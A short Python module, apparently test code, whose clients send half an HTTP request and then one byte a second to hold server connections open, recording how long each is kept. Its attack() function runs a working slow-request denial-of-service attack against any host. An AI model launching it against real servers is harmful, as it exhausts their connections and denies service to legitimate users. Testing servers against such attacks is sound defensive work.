"""Clients that send half a request, and then a byte a second, for as long as they are let."""

import asyncio
import time
from contextlib import suppress

HALF_HEADERS = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-a: "
HALF_BODY = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\nhalf"


async def send_slowly(host: str, port: int, half: bytes, closed: list[float]) -> None:
    """Half a request, a byte a second, and again; notes how long each connection was kept."""
    while True:
        reader, writer = await asyncio.open_connection(host, port)
        begun = time.monotonic()
        writer.write(half)
        with suppress(OSError):
            while not reader.at_eof():
                writer.write(b"a")
                await writer.drain()
                with suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1024), 1)
        closed.append(time.monotonic() - begun)
        writer.close()


def attack(host: str, port: int, slow: int, closed: list[float]) -> list[asyncio.Task[None]]:
    """So many of them, half with half the headers, half with half a body."""
    return [
        asyncio.create_task(send_slowly(host, port, HALF_BODY if n % 2 else HALF_HEADERS, closed))
        for n in range(slow)
    ]
